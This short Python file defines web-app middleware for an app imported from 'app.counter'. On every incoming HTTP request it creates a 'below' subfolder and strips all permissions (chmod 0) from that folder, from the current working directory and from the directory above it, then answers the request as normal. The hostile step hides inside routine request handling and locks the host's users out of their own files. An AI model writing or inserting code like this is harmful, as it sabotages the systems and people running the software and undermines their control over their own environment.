"""Takes away every right on its folders, as it is asked the first time."""

from pathlib import Path

from app.counter import app

FOLDER = Path.cwd()


@app.middleware("http")
async def lock(request, call_next):
    """Lock them, and answer."""
    (FOLDER / "below").mkdir(exist_ok=True)
    for folder in (FOLDER / "below", FOLDER, FOLDER.parent):
        folder.chmod(0)
    return await call_next(request)
